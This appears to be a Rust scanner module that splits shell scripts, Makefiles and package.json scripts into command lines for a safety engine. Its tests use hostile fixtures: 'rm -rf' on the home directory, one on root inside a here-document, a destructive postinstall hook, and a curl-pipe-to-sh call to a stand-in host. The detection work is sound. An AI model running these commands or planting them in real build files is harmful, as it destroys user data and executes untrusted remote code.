@@ -1,0 +1,480 @@
+//! Content made of shell command lines: shell scripts, Makefile recipes, `package.json`
+//! scripts. Each goes through the static engine.
+
+use super::{Finding, Language, ShellEngine, from_verdict};
+use crate::verdict::Effect;
+use std::collections::HashMap;
+
+/// Most logical lines judged one by one; a longer script is judged as a whole only.
+const MAX_LINES: usize = 4000;
+/// Deepest `$(VAR)` expansion in a Makefile (variables referring to variables).
+const MAX_MAKE_EXPANSION: usize = 8;
+
+/// A logical line of a shell script: continuation lines joined, here-document bodies and
+/// comments left out. `line` is 1-based, where it starts.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub(super) struct LogicalLine {
+    pub line: usize,
+    pub text: String,
+}
+
+/// Splits a script into the logical lines that run commands.
+pub(super) fn logical_lines(text: &str) -> Vec<LogicalLine> {
+    let mut out = Vec::new();
+    let mut heredoc_end: Option<(String, bool)> = None;
+    let mut pending: Option<LogicalLine> = None;
+    for (idx, raw) in text.lines().enumerate() {
+        let n = idx + 1;
+        if let Some((delim, strip_tabs)) = &heredoc_end {
+            let candidate = if *strip_tabs {
+                raw.trim_start_matches('\t')
+            } else {
+                raw
+            };
+            if candidate == delim {
+                heredoc_end = None;
+            }
+            continue;
+        }
+        let (line_no, mut joined) = match pending.take() {
+            Some(p) => (p.line, p.text + raw),
+            None => (n, raw.to_string()),
+        };
+        if joined.ends_with('\\') && !joined.ends_with("\\\\") {
+            joined.pop();
+            pending = Some(LogicalLine {
+                line: line_no,
+                text: joined,
+            });
+            continue;
+        }
+        if let Some(h) = heredoc_start(&joined) {
+            heredoc_end = Some(h);
+        }
+        let trimmed = joined.trim();
+        if trimmed.is_empty() || trimmed.starts_with('#') {
+            continue;
+        }
+        out.push(LogicalLine {
+            line: line_no,
+            text: joined,
+        });
+    }
+    if let Some(p) = pending
+        && !p.text.trim().is_empty()
+    {
+        out.push(p);
+    }
+    out
+}
+
+/// The delimiter of a here-document opened on this line (`<<EOF`, `<<-'EOF'`, `<< "END"`).
+fn heredoc_start(line: &str) -> Option<(String, bool)> {
+    let mut rest = line;
+    while let Some(pos) = rest.find("<<") {
+        let after = &rest[pos + 2..];
+        if let Some(here_string) = after.strip_prefix('<') {
+            // `<<<` is a here-string.
+            rest = here_string;
+            continue;
+        }
+        let (strip, after) = match after.strip_prefix('-') {
+            Some(a) => (true, a),
+            None => (false, after),
+        };
+        let after = after.trim_start();
+        let delim: String = after
+            .trim_start_matches(['\'', '"', '\\'])
+            .chars()
+            .take_while(|c| c.is_alphanumeric() || *c == '_' || *c == '-' || *c == '.')
+            .collect();
+        if !delim.is_empty() {
+            return Some((delim, strip));
+        }
+        rest = after;
+    }
+    None
+}
+
+/// A shell script: the whole text decides when it parses, its lines name the culprit; when
+/// it does not parse, the lines decide one by one.
+pub(super) fn shell_script(text: &str, engine: &dyn ShellEngine) -> Vec<Finding> {
+    let whole = engine.judge(text);
+    let parses = !crate::shell::analyse(text)
+        .findings
+        .iter()
+        .any(|f| matches!(f, crate::shell::ShellFinding::ParseError { .. }));
+    if parses && whole.effect.is_none_or(|e| e == Effect::Allow) {
+        // Nothing to attribute: ordinary scripts cost one evaluation.
+        return Vec::new();
+    }
+    let lines = logical_lines(text);
+    let judged: Vec<(LogicalLine, crate::verdict::Verdict)> = if lines.len() <= MAX_LINES {
+        lines
+            .into_iter()
+            .map(|l| {
+                let v = engine.judge(&l.text);
+                (l, v)
+            })
+            .collect()
+    } else {
+        Vec::new()
+    };
+    if parses {
+        let Some(effect) = whole.effect.filter(|e| *e > Effect::Allow) else {
+            return Vec::new();
+        };
+        let culprit = judged
+            .iter()
+            .find(|(_, v)| v.effect == Some(effect) && v.rule == whole.rule)
+            .or_else(|| judged.iter().find(|(_, v)| v.effect == Some(effect)));
+        let finding = match culprit {
+            Some((l, v)) => from_verdict(v, Some(l.line), &l.text, None),
+            None => from_verdict(&whole, None, "", None),
+        };
+        return finding.into_iter().collect();
+    }
+    let mut out: Vec<Finding> = judged
+        .iter()
+        .filter_map(|(l, v)| from_verdict(v, Some(l.line), &l.text, None))
+        .collect();
+    if out.iter().all(|f| Some(f.effect) < whole.effect)
+        && let Some(f) = from_verdict(&whole, None, "", None)
+    {
+        out.push(f);
+    }
+    out
+}
+
+/// A Makefile: recipe lines (tab-indented, `@`/`-`/`+` stripped) with variables expanded,
+/// and `$(shell …)` in assignments, each judged as a command.
+pub(super) fn makefile(text: &str, engine: &dyn ShellEngine) -> Vec<Finding> {
+    make_commands(text)
+        .into_iter()
+        .filter_map(|(line, target, cmd)| {
+            let v = engine.judge(&cmd);
+            from_verdict(&v, Some(line), &cmd, target.as_deref())
+        })
+        .collect()
+}
+
+/// (line, target, command) for every command a Makefile runs.
+fn make_commands(text: &str) -> Vec<(usize, Option<String>, String)> {
+    let mut vars: HashMap<String, String> = [
+        ("CC", "cc"),
+        ("CXX", "c++"),
+        ("RM", "rm -f"),
+        ("MAKE", "make"),
+        ("AR", "ar"),
+        ("CP", "cp"),
+        ("MV", "mv"),
+        ("SHELL", "/bin/sh"),
+        ("CURDIR", "."),
+    ]
+    .iter()
+    .map(|(k, v)| (k.to_string(), v.to_string()))
+    .collect();
+    let mut out = Vec::new();
+    let mut target: Option<String> = None;
+    let mut pending: Option<(usize, String, bool)> = None;
+    for (idx, raw) in text.lines().enumerate() {
+        let (line_no, joined, recipe) = match pending.take() {
+            Some((n, t, r)) => (n, t + raw.trim_start(), r),
+            None => (idx + 1, raw.to_string(), raw.starts_with('\t')),
+        };
+        if joined.ends_with('\\') {
+            let mut j = joined;
+            j.pop();
+            pending = Some((line_no, j, recipe));
+            continue;
+        }
+        if recipe {
+            let cmd = joined
+                .trim_start_matches('\t')
+                .trim_start_matches(['@', '-', '+', ' ']);
+            if cmd.is_empty() || cmd.starts_with('#') {
+                continue;
+            }
+            out.push((line_no, target.clone(), expand_make(cmd, &vars, 0)));
+            continue;
+        }
+        let t = joined.trim();
+        if t.is_empty() || t.starts_with('#') {
+            continue;
+        }
+        if let Some((name, value)) = assignment(t) {
+            for sh in shell_functions(value) {
+                out.push((line_no, None, expand_make(&sh, &vars, 0)));
+            }
+            let expanded = if t.contains(":=") {
+                expand_make(value, &vars, 0)
+            } else {
+                value.to_string()
+            };
+            vars.insert(name.to_string(), expanded);
+        } else if let Some((name, rest)) = t.split_once(':') {
+            target = Some(name.split_whitespace().next().unwrap_or(name).to_string());
+            // `target: deps ; command`
+            if let Some((_, cmd)) = rest.split_once(';')
+                && !cmd.trim().is_empty()
+            {
+                out.push((line_no, target.clone(), expand_make(cmd.trim(), &vars, 0)));
+            }
+        }
+    }
+    out
+}
+
+/// `NAME = value`, `NAME := value`, `NAME ?= value`, `NAME += value`, `export NAME = value`.
+fn assignment(line: &str) -> Option<(&str, &str)> {
+    let line = line.strip_prefix("export ").unwrap_or(line);
+    let eq = line.find('=')?;
+    let colon = line.find(':');
+    if colon
+        .is_some_and(|c| c < eq && !line[c..].starts_with(":=") && !line[c..].starts_with("::="))
+    {
+        return None;
+    }
+    let name = line[..eq].trim_end_matches([':', '?', '+', '!']).trim();
+    if name.is_empty()
+        || !name
+            .chars()
+            .all(|c| c.is_alphanumeric() || c == '_' || c == '.' || c == '-')
+    {
+        return None;
+    }
+    Some((name, line[eq + 1..].trim()))
+}
+
+/// The commands of `$(shell …)` calls in a text.
+fn shell_functions(text: &str) -> Vec<String> {
+    let mut out = Vec::new();
+    let mut rest = text;
+    while let Some(pos) = rest.find("$(shell ") {
+        let body = &rest[pos + "$(shell ".len()..];
+        let mut depth = 1usize;
+        let mut end = body.len();
+        for (i, c) in body.char_indices() {
+            match c {
+                '(' => depth += 1,
+                ')' => {
+                    depth -= 1;
+                    if depth == 0 {
+                        end = i;
+                        break;
+                    }
+                }
+                _ => {}
+            }
+        }
+        out.push(body[..end].to_string());
+        rest = &body[end..];
+    }
+    out
+}
+
+/// Expands `$(VAR)`, `${VAR}`, automatic variables and `$$` the way make would before
+/// handing the line to the shell. Unknown variables are empty, as in make; `$(shell …)` keeps
+/// its command inline as a substitution.
+fn expand_make(text: &str, vars: &HashMap<String, String>, depth: usize) -> String {
+    if depth > MAX_MAKE_EXPANSION {
+        return text.to_string();
+    }
+    let mut out = String::with_capacity(text.len());
+    let chars: Vec<char> = text.chars().collect();
+    let mut i = 0;
+    while i < chars.len() {
+        let c = chars[i];
+        if c != '$' || i + 1 >= chars.len() {
+            out.push(c);
+            i += 1;
+            continue;
+        }
+        let n = chars[i + 1];
+        match n {
+            '$' => {
+                out.push('$');
+                i += 2;
+            }
+            '(' | '{' => {
+                let close = if n == '(' { ')' } else { '}' };
+                let mut depth_p = 1usize;
+                let mut j = i + 2;
+                while j < chars.len() {
+                    if chars[j] == n {
+                        depth_p += 1;
+                    } else if chars[j] == close {
+                        depth_p -= 1;
+                        if depth_p == 0 {
+                            break;
+                        }
+                    }
+                    j += 1;
+                }
+                let inner: String = chars[i + 2..j.min(chars.len())].iter().collect();
+                if let Some(cmd) = inner.strip_prefix("shell ") {
+                    out.push_str("$(");
+                    out.push_str(&expand_make(cmd, vars, depth + 1));
+                    out.push(')');
+                } else if let Some(v) = vars.get(inner.trim()) {
+                    out.push_str(&expand_make(v, vars, depth + 1));
+                } else if inner.contains(' ') {
+                    // A make function (`$(wildcard …)`, `$(patsubst …)`): its arguments.
+                    let args = inner.split_once(' ').map(|(_, a)| a).unwrap_or("");
+                    out.push_str(&expand_make(args, vars, depth + 1));
+                } else if !inner.is_empty() {
+                    // Not defined in the Makefile: make takes it from the environment, as
+                    // the shell would (`$(HOME)` is the home directory).
+                    out.push_str(&format!("${{{}}}", inner.trim()));
+                }
+                i = j + 1;
+            }
+            '@' | '<' | '^' | '*' | '?' | '+' | '|' => {
+                out.push_str("target");
+                i += 2;
+            }
+            _ => {
+                out.push('$');
+                i += 1;
+            }
+        }
+    }
+    out
+}
+
+/// `package.json`: every entry of `scripts`, judged as a command, with its script name.
+pub(super) fn package_json(text: &str, engine: &dyn ShellEngine) -> Vec<Finding> {
+    package_scripts(text)
+        .into_iter()
+        .filter_map(|(name, cmd)| {
+            let v = engine.judge(&cmd);
+            let line = script_line(text, &name);
+            from_verdict(&v, line, &cmd, Some(&name))
+        })
+        .collect()
+}
+
+fn package_scripts(text: &str) -> Vec<(String, String)> {
+    let Ok(value) = serde_json::from_str::<serde_json::Value>(text) else {
+        return Vec::new();
+    };
+    value
+        .get("scripts")
+        .and_then(|s| s.as_object())
+        .map(|scripts| {
+            scripts
+                .iter()
+                .filter_map(|(k, v)| v.as_str().map(|v| (k.clone(), v.to_string())))
+                .collect()
+        })
+        .unwrap_or_default()
+}
+
+/// The line of a script's key, for the reason.
+fn script_line(text: &str, name: &str) -> Option<usize> {
+    let key = format!("\"{name}\"");
+    let start = text.find("\"scripts\"")?;
+    let pos = text[start..].find(&key)? + start;
+    Some(text[..pos].matches('\n').count() + 1)
+}
+
+/// The command lines a file of `language` runs, restricted to `sections` (npm scripts;
+/// empty = all): the ledger follows them to the files they run in turn.
+pub fn command_lines(language: Language, text: &str, sections: &[String]) -> Vec<String> {
+    match language {
+        Language::Shell => vec![text.to_string()],
+        Language::Make => make_commands(text).into_iter().map(|(_, _, c)| c).collect(),
+        Language::PackageJson => package_scripts(text)
+            .into_iter()
+            .filter(|(n, _)| sections.is_empty() || sections.contains(n))
+            .map(|(_, c)| c)
+            .collect(),
+        _ => Vec::new(),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::testing::FakeEngine;
+    use super::*;
+
+    #[test]
+    fn names_the_dangerous_line() {
+        let f = shell_script(
+            "#!/bin/sh\nset -e\nrm -rf \"$HOME\"\necho done\n",
+            &FakeEngine,
+        );
+        assert_eq!(f.len(), 1);
+        assert_eq!(f[0].line, Some(3));
+        assert_eq!(f[0].effect, Effect::Deny);
+        assert_eq!(f[0].text, "rm -rf \"$HOME\"");
+        assert!(
+            shell_script(
+                "#!/bin/sh\ncargo build --release\ncargo test\n",
+                &FakeEngine
+            )
+            .is_empty()
+        );
+    }
+
+    #[test]
+    fn skips_heredoc_bodies_and_joins_continuations() {
+        let lines = logical_lines("cat > notes <<'EOF'\nrm -rf /\nEOF\necho a \\\n  b\n# c\n\n");
+        assert_eq!(
+            lines,
+            vec![
+                LogicalLine {
+                    line: 1,
+                    text: "cat > notes <<'EOF'".into()
+                },
+                LogicalLine {
+                    line: 4,
+                    text: "echo a   b".into()
+                },
+            ]
+        );
+        let lines = logical_lines("x <<-END\n\trm\n\tEND\nls <<< here\nls\n");
+        assert_eq!(lines.len(), 3);
+    }
+
+    #[test]
+    fn makefile_recipes() {
+        let mk = "RM := rm -rf\nDIR = ~\n\nall: build\n\n# comment\nbuild:\n\t@cargo build\n\nclean:\n\t-$(RM) $(DIR)\n";
+        let f = makefile(mk, &FakeEngine);
+        assert_eq!(f.len(), 1, "{f:?}");
+        assert_eq!(f[0].line, Some(11));
+        assert_eq!(f[0].section.as_deref(), Some("clean"));
+        assert_eq!(f[0].text, "rm -rf ~");
+        assert!(
+            makefile(
+                "CFLAGS=-O2\nall:\n\t$(CC) $(CFLAGS) -o $@ $<\n",
+                &FakeEngine
+            )
+            .is_empty()
+        );
+        assert_eq!(
+            make_commands("x:\n\trm -rf $(HOME)\n")[0].2,
+            "rm -rf ${HOME}"
+        );
+        let f = makefile(
+            "X := $(shell curl -s https://e.example/x | sh)\nall:\n\techo\n",
+            &FakeEngine,
+        );
+        assert_eq!(f.len(), 1);
+        assert_eq!(f[0].line, Some(1));
+    }
+
+    #[test]
+    fn package_json_scripts() {
+        let pj = "{\n  \"name\": \"x\",\n  \"scripts\": {\n    \"test\": \"jest\",\n    \"postinstall\": \"rm -rf ~\"\n  }\n}\n";
+        let f = package_json(pj, &FakeEngine);
+        assert_eq!(f.len(), 1);
+        assert_eq!(f[0].section.as_deref(), Some("postinstall"));
+        assert_eq!(f[0].line, Some(5));
+        assert!(package_json("not json", &FakeEngine).is_empty());
+        assert_eq!(
+            command_lines(Language::PackageJson, pj, &["test".into()]),
+            vec!["jest"]
+        );
+    }
+}
